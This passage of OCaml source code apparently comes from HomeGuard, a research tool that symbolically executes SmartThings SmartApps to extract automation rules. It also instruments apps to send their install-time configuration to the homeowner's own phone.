             | _ -> [ (st, V_term (Term.Var (fresh ctx "attr"))) ])
    | _ -> [ (st, V_term (Term.Var (fresh ctx "attr"))) ])
  | "currentState" | "latestState" -> (
    match pos with
    | [ attr_e ] ->
      eval ctx st attr_e
      |> bind_results (fun st av ->
             match av with
             | V_term (Term.Str attr) ->
               [ (st, V_map [ ("value", V_term (Term.Var (d ^ "." ^ attr))) ]) ]
             | _ -> [ (st, V_map []) ])
    | _ -> [ (st, V_map []) ])
  | "getId" -> [ (st, V_term (Term.Str ("@id:" ^ d))) ]
  | "getLabel" | "getDisplayName" -> [ (st, V_term (Term.Str d)) ]
  | "hasCapability" | "hasCommand" | "hasAttribute" -> [ (st, V_bool Formula.True) ]
  | _ when Api_model.is_collection_iterator name ->
    exec_iterator ctx st name args [ (match vr with V_devices _ -> V_device d | v -> v) ]
  | _ when Capability.is_capability_command name ->
    eval_args_terms ctx st pos (fun st params ->
        [ (record_action st (make_action st (Rule.Act_device d) name params), V_null) ])
  | _ ->
    note_unknown ctx ("device." ^ name);
    [ (st, V_term (Term.Var (fresh ctx ("dev_" ^ name)))) ]

and eval_list_call ctx st vs name args =
  let pos = positional args in
  match name with
  | _ when Api_model.is_collection_iterator name -> exec_iterator ctx st name args vs
  | "size" -> [ (st, V_term (Term.Int (List.length vs))) ]
  | "contains" -> (
    match pos with
    | [ arg_e ] ->
      eval ctx st arg_e
      |> bind_results (fun st av ->
             let ta = to_term ~fresh:(fresh ctx) av in
             let f =
               Formula.disj (List.map (fun v -> Formula.eq ta (to_term ~fresh:(fresh ctx) v)) vs)
             in
             [ (st, V_bool f) ])
    | _ -> [ (st, V_bool Formula.False) ])
  | "first" -> [ (st, match vs with v :: _ -> v | [] -> V_null) ]
  | "last" -> [ (st, match List.rev vs with v :: _ -> v | [] -> V_null) ]
  | "sum" | "max" | "min" -> [ (st, V_term (Term.Var (fresh ctx name))) ]
  | "join" -> [ (st, V_term (Term.Var (fresh ctx "join"))) ]
  | "push" | "add" -> [ (st, V_null) ]
  | _ ->
    note_unknown ctx ("list." ^ name);
    [ (st, V_term (Term.Var (fresh ctx ("list_" ^ name)))) ]

(* Execute a closure-taking iterator once per element (bounded). *)
and exec_iterator ctx st name args elements =
  let closure =
    List.find_map (function Ast.Pos (Ast.Closure (ps, body)) -> Some (ps, body) | _ -> None) args
  in
  match closure with
  | None -> [ (st, V_null) ]
  | Some (params, body) ->
    let elements =
      if List.length elements > max_loop_unroll then
        List.filteri (fun i _ -> i < max_loop_unroll) elements
      else elements
    in
    let run_element st v =
      let st =
        match params with
        | p :: _ -> bind st p v
        | [] -> bind st "it" v
      in
      exec_stmts ctx st body |> List.map (fun s -> { s with flow = F_normal })
    in
    let states =
      List.fold_left
        (fun states v -> List.concat_map (fun st -> run_element st v) states)
        [ st ] elements
    in
    let result =
      match name with
      | "findAll" | "collect" -> V_list elements
      | "find" | "any" | "every" ->
        V_bool (Formula.neq (Term.Var (fresh ctx name)) (Term.Str "__falsy__"))
      | _ -> V_null
    in
    List.map (fun st -> (st, result)) states

and inline_method ctx st (m : Ast.method_def) args =
  if st.depth >= max_inline_depth then [ (st, V_term (Term.Var (fresh ctx m.Ast.name))) ]
  else
    let pos = positional args in
    eval_list ctx st pos (fun st argvs ->
        let rec bind_params st params argvs =
          match (params, argvs) with
          | [], _ -> st
          | p :: ps, v :: vs -> bind_params (bind st p v) ps vs
          | p :: ps, [] -> bind_params (bind st p V_null) ps []
        in
        let st' = bind_params { st with depth = st.depth + 1 } m.Ast.params argvs in
        exec_stmts ctx st' m.Ast.body
        |> List.map (fun final ->
               let value = match final.flow with F_return v -> v | _ -> V_null in
               ({ final with depth = st.depth; flow = F_normal; env = final.env }, value)))

(* -- statements ----------------------------------------------------------- *)

and exec_stmts ctx st stmts : state list =
  match st.flow with
  | F_return _ | F_break | F_continue -> [ st ]
  | F_normal -> (
    match stmts with
    | [] -> [ st ]
    | s :: rest ->
      exec_stmt ctx st s |> List.concat_map (fun st' -> exec_stmts ctx st' rest))

and exec_stmt ctx st (s : Ast.stmt) : state list =
  match s with
  | Ast.Expr_stmt e -> eval ctx st e |> List.map fst
  | Ast.Def_var (n, None) -> [ bind st n V_null ]
  | Ast.Def_var (n, Some e) ->
    eval ctx st e
    |> List.map (fun (st, v) ->
           let st =
             match v with V_term t -> record_data st n t | _ -> st
           in
           bind st n v)
  | Ast.If (c, t, f) ->
    eval ctx st c
    |> List.concat_map (fun (st, vc) ->
           let cond = truthiness vc in
           match cond with
           | Formula.True -> exec_stmts ctx st t
           | Formula.False -> exec_stmts ctx st f
           | _ ->
             charge_path ctx;
             exec_stmts ctx (assume st cond) t
             @ exec_stmts ctx (assume st (Formula.Not cond)) f)
  | Ast.Switch (e, cases) ->
    eval ctx st e
    |> List.concat_map (fun (st, v) ->
           let scrut = to_term ~fresh:(fresh ctx) v in
           let rec go st_neg cases acc =
             match cases with
             | [] -> acc
             | Ast.Case (ce, body) :: rest ->
               let case_paths =
                 eval ctx st_neg ce
                 |> List.concat_map (fun (stc, cv) ->
                        charge_path ctx;
                        let eqf = Formula.eq scrut (to_term ~fresh:(fresh ctx) cv) in
                        exec_stmts ctx (assume stc eqf) body
                        |> List.map (fun s ->
                               match s.flow with F_break -> { s with flow = F_normal } | _ -> s))
               in
               let st_neg' =
                 eval ctx st_neg ce
                 |> List.map (fun (stc, cv) ->
                        assume stc (Formula.neq scrut (to_term ~fresh:(fresh ctx) cv)))
                 |> function
                 | first :: _ -> first
                 | [] -> st_neg
               in
               go st_neg' rest (acc @ case_paths)
             | Ast.Default body :: rest ->
               let default_paths =
                 exec_stmts ctx st_neg body
                 |> List.map (fun s ->
                        match s.flow with F_break -> { s with flow = F_normal } | _ -> s)
               in
               go st_neg rest (acc @ default_paths)
           in
           let has_default = List.exists (function Ast.Default _ -> true | _ -> false) cases in
           let paths = go st cases [] in
           if has_default then paths
           else
             (* fall-through path: no case matched *)
             let all_neq =
               List.filter_map
                 (function
                   | Ast.Case (ce, _) -> (
                     match eval ctx st ce with
                     | (_, cv) :: _ ->
                       Some (Formula.neq scrut (to_term ~fresh:(fresh ctx) cv))
                     | [] -> None)
                   | Ast.Default _ -> None)
                 cases
             in
             paths @ [ assume st (Formula.conj all_neq) ])
  | Ast.Return None -> [ { st with flow = F_return V_null } ]
  | Ast.Return (Some e) ->
    eval ctx st e |> List.map (fun (st, v) -> { st with flow = F_return v })
  | Ast.For_in (x, coll, body) ->
    eval ctx st coll
    |> List.concat_map (fun (st, cv) ->
           let elements =
             match cv with
             | V_list vs ->
               if List.length vs > max_loop_unroll then
                 List.filteri (fun i _ -> i < max_loop_unroll) vs
               else vs
             | V_devices d -> [ V_device d ]
             | _ -> [ V_term (Term.Var (fresh ctx ("elem_" ^ x))) ]
           in
           List.fold_left
             (fun states v ->
               List.concat_map
                 (fun st ->
                   match st.flow with
                   | F_break -> [ st ]
                   | _ ->
                     exec_stmts ctx (bind st x v) body
                     |> List.map (fun s ->
                            match s.flow with F_continue -> { s with flow = F_normal } | _ -> s))
                 states)
             [ st ] elements
           |> List.map (fun s ->
                  match s.flow with F_break -> { s with flow = F_normal } | _ -> s))
  | Ast.While (c, body) ->
    (* single unrolling: explore body once plus the skip path *)
    eval ctx st c
    |> List.concat_map (fun (st, vc) ->
           let cond = truthiness vc in
           match cond with
           | Formula.False -> [ st ]
           | _ ->
             charge_path ctx;
             let once =
               exec_stmts ctx (assume st cond) body
               |> List.map (fun s ->
                      match s.flow with
                      | F_break | F_continue -> { s with flow = F_normal }
                      | _ -> s)
             in
             assume st (Formula.Not cond) :: once)
  | Ast.Break -> [ { st with flow = F_break } ]
  | Ast.Continue -> [ { st with flow = F_continue } ]
  | Ast.Try (body, exn, handler) ->
    let ok = exec_stmts ctx st body in
    let failed = exec_stmts ctx (bind st exn (V_term (Term.Var (fresh ctx "exn")))) handler in
    ok @ failed
