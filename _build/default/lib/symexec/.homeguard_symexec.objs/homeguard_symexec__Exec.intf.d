lib/symexec/exec.mli: Homeguard_groovy Homeguard_rules Symval
