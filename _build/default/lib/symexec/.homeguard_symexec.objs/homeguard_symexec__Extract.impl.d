lib/symexec/extract.ml: Exec Homeguard_groovy Homeguard_rules Homeguard_solver List Option Printf Symval
