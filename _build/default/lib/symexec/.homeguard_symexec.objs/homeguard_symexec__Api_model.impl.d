lib/symexec/api_model.ml: Homeguard_solver String
