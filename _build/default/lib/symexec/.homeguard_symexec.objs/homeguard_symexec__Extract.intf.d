lib/symexec/extract.mli: Homeguard_groovy Homeguard_rules
