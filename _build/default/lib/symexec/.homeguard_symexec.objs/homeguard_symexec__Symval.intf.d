lib/symexec/symval.mli: Homeguard_groovy Homeguard_rules Homeguard_solver Map
