lib/symexec/api_model.mli: Homeguard_solver
