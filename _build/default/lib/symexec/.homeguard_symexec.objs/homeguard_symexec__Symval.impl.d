lib/symexec/symval.ml: Float Homeguard_groovy Homeguard_rules Homeguard_solver List Map String
