lib/symexec/exec.ml: Api_model Fun Homeguard_groovy Homeguard_rules Homeguard_solver Homeguard_st List Printf SMap String Symval
