(** Rule extraction: SmartApp source → {!Homeguard_rules.Rule.smartapp}.

    Pipeline (paper §V): parse the app, collect [input] declarations and
    metadata from the AST, symbolically execute the lifecycle entry
    points to find subscriptions and schedules, then symbolically execute
    every handler, turning each completed path that reached a sink into a
    rule. Atoms over the event value form the trigger constraint; the
    rest of the path condition forms the condition predicate. *)

module Ast = Homeguard_groovy.Ast
module Term = Homeguard_solver.Term
module Formula = Homeguard_solver.Formula
module Rule = Homeguard_rules.Rule
open Symval

type diagnostics = {
  paths_explored : int;
  truncated : bool;  (** path budget exhausted somewhere *)
  unknown_calls : string list;  (** unmodeled APIs encountered *)
}

type result = { app : Rule.smartapp; diags : diagnostics }

exception Extraction_error of string

(* -- metadata scanning ---------------------------------------------------- *)

let string_of_expr_opt = function Ast.Lit (Ast.Str s) -> Some s | _ -> None

let scan_inputs prog =
  List.filter_map
    (fun (recv, name, args) ->
      if recv <> None || name <> "input" then None
      else
        let pos = List.filter_map (function Ast.Pos e -> Some e | _ -> None) args in
        let named k =
          List.find_map (function Ast.Named (k', e) when k' = k -> Some e | _ -> None) args
        in
        match pos with
        | var_e :: ty_e :: _ -> (
          match (string_of_expr_opt var_e, string_of_expr_opt ty_e) with
          | Some var, Some input_type ->
            Some
              {
                Rule.var;
                input_type;
                title = Option.bind (named "title") string_of_expr_opt;
                multiple =
                  (match named "multiple" with
                  | Some (Ast.Lit (Ast.Bool b)) -> b
                  | _ -> false);
              }
          | _ -> None)
        | _ -> None)
    (Ast.all_calls prog)

let scan_metadata prog =
  let name = ref None and description = ref None in
  List.iter
    (fun (recv, call_name, args) ->
      if recv = None && call_name = "definition" then
        List.iter
          (function
            | Ast.Named ("name", e) -> name := string_of_expr_opt e
            | Ast.Named ("description", e) -> description := string_of_expr_opt e
            | _ -> ())
          args)
    (Ast.all_calls prog);
  (!name, !description)

let uses_web_services prog =
  List.exists (fun (recv, name, _) -> recv = None && name = "mappings") (Ast.all_calls prog)

(* -- rule assembly -------------------------------------------------------- *)

(* Split the path condition into event-value atoms (trigger constraint)
   and the rest (condition predicate); substitute the event variable by
   the subscribed subject.attribute variable. *)
let split_path_condition subject_var pc_conjuncts =
  let mentions_event f = List.mem event_value_var (Formula.free_vars f) in
  let sub = [ (event_value_var, Term.Var subject_var) ] in
  let pc_conjuncts = List.concat_map Formula.conjuncts pc_conjuncts in
  let trigger_atoms, condition_atoms = List.partition mentions_event pc_conjuncts in
  ( Formula.conj (List.map (Formula.subst sub) trigger_atoms),
    Formula.conj (List.map (Formula.subst sub) condition_atoms) )

let subject_attribute_var subject attribute =
  match subject with
  | Rule.Device d -> d ^ "." ^ attribute
  | Rule.Location -> if attribute = "mode" then "location.mode" else "location." ^ attribute
  | Rule.App_touch -> "app.touch"

let substitute_data sub data = List.map (fun (v, t) -> (v, Term.subst sub t)) data

let substitute_action sub (a : Rule.action) =
  {
    a with
    Rule.params = List.map (Term.subst sub) a.params;
    action_data = substitute_data sub a.action_data;
  }

let rules_of_event_paths ~app_name ~counter subscription finals =
  let { Exec.sub_subject; sub_attribute; sub_value; _ } = subscription in
  let subject_var = subject_attribute_var sub_subject sub_attribute in
  let sub = [ (event_value_var, Term.Var subject_var) ] in
  List.filter_map
    (fun (st : state) ->
      match st.actions with
      | [] -> None
      | actions ->
        let trigger_f, condition_f = split_path_condition subject_var (List.rev st.pc) in
        let explicit =
          match sub_value with
          | Some v -> Formula.eq (Term.Var subject_var) (Term.Str v)
          | None -> Formula.True
        in
        incr counter;
        Some
          {
            Rule.app_name;
            rule_id = Printf.sprintf "%s#%d" app_name !counter;
            trigger =
              Rule.Event
                {
                  subject = sub_subject;
                  attribute = sub_attribute;
                  constraint_ = Formula.conj [ explicit; trigger_f ];
                };
            condition =
              { Rule.data = substitute_data sub (List.rev st.data); predicate = condition_f };
            actions = List.rev_map (substitute_action sub) actions;
          })
    finals

let rules_of_scheduled_paths ~app_name ~counter (sched : Exec.schedule) finals =
  List.filter_map
    (fun (st : state) ->
      match st.actions with
      | [] -> None
      | actions ->
        incr counter;
        Some
          {
            Rule.app_name;
            rule_id = Printf.sprintf "%s#%d" app_name !counter;
            trigger =
              Rule.Scheduled
                { at_minutes = sched.Exec.sched_at; period_seconds = sched.Exec.sched_period };
            condition = { Rule.data = List.rev st.data; predicate = Formula.conj (List.rev st.pc) };
            actions = List.rev actions;
          })
    finals

(* Structural rule deduplication ignoring rule ids. *)
let dedup_rules rules =
  let strip (r : Rule.t) = { r with Rule.rule_id = "" } in
  let rec go seen acc = function
    | [] -> List.rev acc
    | r :: rest ->
      let key = strip r in
      if List.mem key seen then go seen acc rest else go (key :: seen) (r :: acc) rest
  in
  go [] [] rules

(* -- main entry ----------------------------------------------------------- *)

(** Extract rules from parsed SmartApp source. [name] overrides the
    metadata name (useful when the definition block is omitted). *)
let extract_program ?name prog =
  let meta_name, meta_desc = scan_metadata prog in
  let app_name =
    match (name, meta_name) with
    | Some n, _ -> n
    | None, Some n -> n
    | None, None -> "unnamed"
  in
  let inputs = scan_inputs prog in
  let ctx =
    {
      Exec.prog;
      inputs;
      subs = ref [];
      schedules = ref [];
      fresh_counter = ref 0;
      unknown_calls = ref [];
      paths = ref 0;
      in_setup = true;
    }
  in
  let truncated = ref false in
  let guarded f = try f () with Exec.Path_budget -> truncated := true; [] in
  (* Phase 1: execute entry points to collect subscriptions/schedules. *)
  let base = Exec.bind_inputs ctx initial_state in
  List.iter
    (fun entry ->
      match Ast.find_method prog entry with
      | Some m -> ignore (guarded (fun () -> Exec.exec_stmts ctx base m.Ast.body))
      | None -> ())
    [ "installed"; "updated" ];
  (* Phase 2: execute every handler. *)
  let handler_ctx = { ctx with Exec.in_setup = false } in
  let counter = ref 0 in
  let event_rules =
    List.concat_map
      (fun (sub : Exec.subscription) ->
        match Ast.find_method prog sub.Exec.sub_handler with
        | None -> []
        | Some m ->
          let evt =
            V_event
              {
                value = Term.Var event_value_var;
                name = sub.Exec.sub_attribute;
                device =
                  (match sub.Exec.sub_subject with Rule.Device d -> Some d | _ -> None);
              }
          in
          let st =
            match m.Ast.params with
            | p :: _ -> bind base p evt
            | [] -> bind base "evt" evt
          in
          handler_ctx.Exec.paths := 0;
          let finals = guarded (fun () -> Exec.exec_stmts handler_ctx st m.Ast.body) in
          rules_of_event_paths ~app_name ~counter sub finals)
      (List.rev !(ctx.Exec.subs))
  in
  let scheduled_rules =
    List.concat_map
      (fun (sched : Exec.schedule) ->
        match Ast.find_method prog sched.Exec.sched_handler with
        | None -> []
        | Some m ->
          handler_ctx.Exec.paths := 0;
          let finals = guarded (fun () -> Exec.exec_stmts handler_ctx base m.Ast.body) in
          rules_of_scheduled_paths ~app_name ~counter sched finals)
      (List.rev !(ctx.Exec.schedules))
  in
  let app =
    {
      Rule.name = app_name;
      description = (match meta_desc with Some d -> d | None -> "");
      inputs;
      rules = dedup_rules (event_rules @ scheduled_rules);
      uses_web_services = uses_web_services prog;
    }
  in
  {
    app;
    diags =
      {
        paths_explored = !(ctx.Exec.paths) + !(handler_ctx.Exec.paths);
        truncated = !truncated;
        unknown_calls = List.rev !(ctx.Exec.unknown_calls);
      };
  }

(** Parse and extract from source text. *)
let extract_source ?name src =
  match Homeguard_groovy.Parser.parse src with
  | prog -> extract_program ?name prog
  | exception Homeguard_groovy.Parser.Error (msg, line) ->
    raise (Extraction_error (Printf.sprintf "parse error at line %d: %s" line msg))
  | exception Homeguard_groovy.Lexer.Error (msg, line) ->
    raise (Extraction_error (Printf.sprintf "lex error at line %d: %s" line msg))
