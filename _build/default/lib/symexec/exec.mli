(** Depth-first symbolic execution of SmartApp statements (paper §V-B):
    branches split the path, sinks become actions, [subscribe]/
    scheduling calls become triggers. *)

module Rule = Homeguard_rules.Rule

type subscription = {
  sub_subject : Rule.subject;
  sub_attribute : string;
  sub_value : string option;  (** ["switch.on"]-style subscription value *)
  sub_handler : string;
}

type schedule = {
  sched_handler : string;
  sched_at : int option;
  sched_period : int option;
}

type ctx = {
  prog : Homeguard_groovy.Ast.program;
  inputs : Rule.input_decl list;
  subs : subscription list ref;
  schedules : schedule list ref;
  fresh_counter : int ref;
  unknown_calls : string list ref;
  paths : int ref;
  in_setup : bool;
}

exception Path_budget
(** The per-handler exploration budget ({!max_paths}) was exhausted. *)

val max_paths : int
val max_inline_depth : int
val max_loop_unroll : int

val bind_inputs : ctx -> Symval.state -> Symval.state
(** Bind every declared input as a symbolic source. *)

val eval :
  ctx -> Symval.state -> Homeguard_groovy.Ast.expr -> (Symval.state * Symval.value) list
(** Evaluate an expression; the result list is one entry per path. *)

val exec_stmts :
  ctx -> Symval.state -> Homeguard_groovy.Ast.stmt list -> Symval.state list
(** Execute a statement list; the result list is the final state of
    every explored path. *)
