(** Static models of SmartThings APIs and object properties used by the
    symbolic executor (paper §V-B "API modeling"). *)

val attribute_of_current_prop : string -> string option
(** ["currentSwitch"] -> [Some "switch"]. *)

val minutes_of_time_string : string -> int option
(** "HH:mm" or ISO timestamps -> minutes after midnight. *)

val minutes_of_cron : string -> int option
(** Fixed minute/hour fields of a Quartz cron expression. *)

val location_property : string -> Homeguard_solver.Term.t option
val time_api : string -> Homeguard_solver.Term.t option
val is_identity_conversion : string -> bool
val is_collection_iterator : string -> bool
val is_event_value_prop : string -> bool
