(** Symbolic values and path states for SmartApp symbolic execution.

    Sources (paper §V-B): device references, device attribute values,
    device events, user input, HTTP responses, constants, [state] /
    [atomicState] fields and modeled-API returns are all symbolic inputs.
    Numeric and string data are solver terms; boolean data are formulas
    (so branch conditions become path-condition conjuncts directly). *)

module Term = Homeguard_solver.Term
module Formula = Homeguard_solver.Formula
module Rule = Homeguard_rules.Rule
module SMap = Map.Make (String)

(** The distinguished variable standing for the triggering event's value
    inside a handler. Rule assembly substitutes it by the subscribed
    [subject.attribute] variable and sorts its atoms into the trigger
    constraint (paper §V-B "constraints for the trigger"). *)
let event_value_var = "@evt"

type value =
  | V_term of Term.t  (** numeric or string datum *)
  | V_bool of Formula.t  (** boolean datum as a formula *)
  | V_device of string  (** single device bound to an input variable *)
  | V_devices of string  (** [multiple: true] device collection *)
  | V_list of value list
  | V_map of (string * value) list
  | V_closure of string list * Homeguard_groovy.Ast.stmt list
  | V_method of string  (** reference to a handler method *)
  | V_location
  | V_event of { value : Term.t; name : string; device : string option }
  | V_null

(** Control-flow status of a path after executing a statement list. *)
type flow = F_normal | F_return of value | F_break | F_continue

type state = {
  env : value SMap.t;  (** local and input bindings *)
  state_obj : Term.t SMap.t;  (** [state.x] strong updates along the path *)
  pc : Formula.t list;  (** path condition, newest first *)
  data : (string * Term.t) list;  (** data constraints, newest first *)
  actions : Rule.action list;  (** sinks hit, newest first *)
  delay : int;  (** accumulated [runIn] delay in seconds *)
  period : int;  (** repetition period for successive sinks *)
  depth : int;  (** method-inlining depth *)
  flow : flow;
}

let initial_state =
  {
    env = SMap.empty;
    state_obj = SMap.empty;
    pc = [];
    data = [];
    actions = [];
    delay = 0;
    period = 0;
    depth = 0;
    flow = F_normal;
  }

let bind st var value = { st with env = SMap.add var value st.env }
let lookup st var = SMap.find_opt var st.env

let assume st f = match f with Formula.True -> st | f -> { st with pc = f :: st.pc }

let record_data st var term = { st with data = (var, term) :: st.data }

let record_action st action = { st with actions = action :: st.actions }

let path_condition st = Formula.conj (List.rev st.pc)

(** Groovy truthiness of a value, as a formula. Unknown string-typed
    symbols get a sentinel falsy witness so both branches stay
    satisfiable. *)
let truthiness = function
  | V_bool f -> f
  | V_term (Term.Int 0) -> Formula.False
  | V_term (Term.Int _) -> Formula.True
  | V_term (Term.Str "") -> Formula.False
  | V_term (Term.Str _) -> Formula.True
  | V_term (Term.Var v) -> Formula.neq (Term.Var v) (Term.Str "__falsy__")
  | V_term _ -> Formula.True
  | V_device _ | V_devices _ | V_location | V_event _ | V_method _ | V_closure _ -> Formula.True
  | V_list [] | V_map [] -> Formula.False
  | V_list _ | V_map _ -> Formula.True
  | V_null -> Formula.False

(** Coerce a value to a solver term where possible; opaque values get a
    fresh variable from [fresh]. *)
let to_term ~fresh = function
  | V_term t -> t
  | V_bool Formula.True -> Term.Str "true"
  | V_bool Formula.False -> Term.Str "false"
  | V_bool _ -> Term.Var (fresh "bool")
  | V_event { value; _ } -> value
  | V_device d -> Term.Str ("@device:" ^ d)
  | V_devices d -> Term.Str ("@devices:" ^ d)
  | V_method m -> Term.Str ("@method:" ^ m)
  | V_null -> Term.Str "null"
  | V_location -> Term.Str "@location"
  | V_list _ | V_map _ | V_closure _ -> Term.Var (fresh "opaque")

let lit_to_value (l : Homeguard_groovy.Ast.lit) =
  match l with
  | Homeguard_groovy.Ast.Int n -> V_term (Term.Int n)
  | Homeguard_groovy.Ast.Float f -> V_term (Term.Int (int_of_float (Float.round f)))
  | Homeguard_groovy.Ast.Str s -> V_term (Term.Str s)
  | Homeguard_groovy.Ast.Bool b -> V_bool (if b then Formula.True else Formula.False)
  | Homeguard_groovy.Ast.Null -> V_null
