(** Symbolic values and path states for SmartApp symbolic execution
    (paper §V-B: sources are devices, attribute values, events, user
    input, HTTP responses, constants and [state] fields). *)

module Term = Homeguard_solver.Term
module Formula = Homeguard_solver.Formula
module Rule = Homeguard_rules.Rule
module SMap : Map.S with type key = string

val event_value_var : string
(** The distinguished variable standing for the triggering event's value
    inside a handler; rule assembly substitutes and sorts its atoms into
    the trigger constraint. *)

type value =
  | V_term of Term.t
  | V_bool of Formula.t
  | V_device of string
  | V_devices of string
  | V_list of value list
  | V_map of (string * value) list
  | V_closure of string list * Homeguard_groovy.Ast.stmt list
  | V_method of string
  | V_location
  | V_event of { value : Term.t; name : string; device : string option }
  | V_null

type flow = F_normal | F_return of value | F_break | F_continue

type state = {
  env : value SMap.t;
  state_obj : Term.t SMap.t;
  pc : Formula.t list;  (** path condition, newest first *)
  data : (string * Term.t) list;
  actions : Rule.action list;
  delay : int;
  period : int;
  depth : int;
  flow : flow;
}

val initial_state : state
val bind : state -> string -> value -> state
val lookup : state -> string -> value option
val assume : state -> Formula.t -> state
val record_data : state -> string -> Term.t -> state
val record_action : state -> Rule.action -> state
val path_condition : state -> Formula.t

val truthiness : value -> Formula.t
(** Groovy truthiness as a formula; unknown string symbols get a
    sentinel falsy witness so both branches stay satisfiable. *)

val to_term : fresh:(string -> string) -> value -> Term.t
val lit_to_value : Homeguard_groovy.Ast.lit -> value
