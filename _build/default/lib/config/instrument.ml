(** SmartApp code instrumentation (paper §VII-A, Listing 3).

    A source-to-source pass that (1) adds the [patchedphone] input so the
    homeowner can point the app at their HomeGuard phone, (2) inserts the
    configuration-collection preamble into [updated] — the lifecycle
    method invoked on every install or configuration change — and (3)
    appends the [collectConfigInfo] helper that assembles the URI and
    ships it over SMS. The pass reuses the rule extractor's input scan,
    so instrumentation is fully automatic. *)

module Ast = Homeguard_groovy.Ast
module Rule = Homeguard_rules.Rule

let str s = Ast.Lit (Ast.Str s)

let phone_input =
  Ast.Top_stmt
    (Ast.Expr_stmt
       (Ast.Call
          ( None,
            "input",
            [
              Ast.Pos (str "patchedphone");
              Ast.Pos (str "phone");
              Ast.Named ("required", Ast.Lit (Ast.Bool true));
              Ast.Named ("title", str "Phone number?");
            ] )))

(* [[devRefStr:"tv1", devRef:tv1], ...] *)
let devices_literal device_vars =
  Ast.List_lit
    (List.map
       (fun var ->
         Ast.Map_lit [ ("devRefStr", str var); ("devRef", Ast.Ident var) ])
       device_vars)

let values_literal value_vars =
  Ast.List_lit
    (List.map
       (fun var -> Ast.Map_lit [ ("varStr", str var); ("var", Ast.Ident var) ])
       value_vars)

let collection_preamble ~app_name ~device_vars ~value_vars =
  [
    Ast.Def_var ("appname", Some (str app_name));
    Ast.Def_var ("devices", Some (devices_literal device_vars));
    Ast.Def_var ("values", Some (values_literal value_vars));
    Ast.Expr_stmt
      (Ast.Call
         ( None,
           "collectConfigInfo",
           [ Ast.Pos (Ast.Ident "appname"); Ast.Pos (Ast.Ident "devices"); Ast.Pos (Ast.Ident "values") ] ));
  ]

(* The collectConfigInfo method of Listing 3, as an AST. *)
let collect_config_info_method ~transport =
  let send_call =
    match transport with
    | `Sms ->
      Ast.Expr_stmt
        (Ast.Call
           (None, "sendSmsMessage", [ Ast.Pos (Ast.Ident "patchedphone"); Ast.Pos (Ast.Ident "uri") ]))
    | `Http ->
      Ast.Expr_stmt
        (Ast.Call
           ( None,
             "httpPost",
             [ Ast.Pos (str "https://fcm.googleapis.com/fcm/send"); Ast.Pos (Ast.Ident "uri") ] ))
  in
  Ast.Method
    {
      Ast.name = "collectConfigInfo";
      params = [ "appname"; "devices"; "values" ];
      body =
        [
          Ast.Def_var
            ( "uri",
              Some
                (Ast.Gstring
                   [ Ast.Text "http://my.com/appname:"; Ast.Interp (Ast.Ident "appname"); Ast.Text "/" ]) );
          Ast.Expr_stmt
            (Ast.Call
               ( Some (Ast.Ident "devices"),
                 "each",
                 [
                   Ast.Pos
                     (Ast.Closure
                        ( [ "dev" ],
                          [
                            Ast.Expr_stmt
                              (Ast.Assign
                                 ( Ast.Ident "uri",
                                   Ast.Binop
                                     ( Ast.Add,
                                       Ast.Binop
                                         ( Ast.Add,
                                           Ast.Binop
                                             ( Ast.Add,
                                               Ast.Ident "uri",
                                               Ast.Prop (Ast.Ident "dev", "devRefStr") ),
                                           str ":" ),
                                       Ast.Binop
                                         ( Ast.Add,
                                           Ast.Call
                                             (Some (Ast.Prop (Ast.Ident "dev", "devRef")), "getId", []),
                                           str "/" ) ) ));
                          ] ));
                 ] ));
          Ast.Expr_stmt
            (Ast.Call
               ( Some (Ast.Ident "values"),
                 "each",
                 [
                   Ast.Pos
                     (Ast.Closure
                        ( [ "val" ],
                          [
                            Ast.Expr_stmt
                              (Ast.Assign
                                 ( Ast.Ident "uri",
                                   Ast.Binop
                                     ( Ast.Add,
                                       Ast.Binop
                                         ( Ast.Add,
                                           Ast.Binop
                                             (Ast.Add, Ast.Ident "uri", Ast.Prop (Ast.Ident "val", "varStr")),
                                           str ":" ),
                                       Ast.Binop (Ast.Add, Ast.Prop (Ast.Ident "val", "var"), str "/") ) ));
                          ] ));
                 ] ));
          send_call;
        ];
    }

(** Instrument a parsed SmartApp. [transport] selects SMS (default) or
    HTTP/FCM messaging (§VII-B). *)
let instrument_program ?(transport = `Sms) ~app_name prog =
  let inputs = Homeguard_symexec.Extract.scan_inputs prog in
  let device_vars =
    List.filter_map
      (fun (i : Rule.input_decl) ->
        let is_device =
          (String.length i.Rule.input_type > 11 && String.sub i.Rule.input_type 0 11 = "capability.")
          || (String.length i.Rule.input_type > 7 && String.sub i.Rule.input_type 0 7 = "device.")
        in
        if is_device then Some i.Rule.var else None)
      inputs
  in
  let value_vars =
    List.filter_map
      (fun (i : Rule.input_decl) ->
        match i.Rule.input_type with
        | "number" | "decimal" | "text" | "enum" | "time" | "bool" | "boolean" -> Some i.Rule.var
        | _ -> None)
      inputs
  in
  let preamble = collection_preamble ~app_name ~device_vars ~value_vars in
  let has_updated = Ast.find_method prog "updated" <> None in
  let instrumented =
    List.map
      (fun top ->
        match top with
        | Ast.Method m when m.Ast.name = "updated" ->
          Ast.Method { m with Ast.body = m.Ast.body @ preamble }
        | top -> top)
      prog
  in
  let instrumented =
    if has_updated then instrumented
    else instrumented @ [ Ast.Method { Ast.name = "updated"; params = []; body = preamble } ]
  in
  (phone_input :: instrumented) @ [ collect_config_info_method ~transport ]

(** Instrument source text, returning the instrumented source. *)
let instrument_source ?transport ~app_name src =
  let prog = Homeguard_groovy.Parser.parse src in
  Homeguard_groovy.Pretty.program_to_string (instrument_program ?transport ~app_name prog)

(** What the instrumented [updated] method produces at install time,
    given concrete bindings: the configuration URI the phone receives.
    This mirrors executing Listing 3 against the user's configuration. *)
let collected_uri ~app_name ~device_bindings ~value_bindings =
  Config_uri.encode
    { Config_uri.app_name; devices = device_bindings; values = value_bindings }
