(** URI encoding of install-time configuration (paper §VII-A, Fig 7a). *)

type t = {
  app_name : string;
  devices : (string * string) list;  (** variable -> 128-bit device id *)
  values : (string * string) list;
}

exception Malformed of string

val base : string
val is_hex_id : string -> bool
val encode : t -> string
val decode : string -> t
