(** URI encoding of configuration information (paper §VII-A, Fig 7a).

    The instrumented app assembles a URI
    ["http://my.com/appname:ComfortTV/tv1:<128-bit id>/threshold1:30/"]
    carrying the app name, the device-variable → device-id bindings and
    the user-specified values; the HomeGuard phone app parses it back. *)

type t = {
  app_name : string;
  devices : (string * string) list;  (** variable -> 128-bit device id *)
  values : (string * string) list;  (** variable -> rendered value *)
}

let base = "http://my.com/"

let is_hex_id s = String.length s = 32 && String.for_all (function '0' .. '9' | 'a' .. 'f' -> true | _ -> false) s

let encode t =
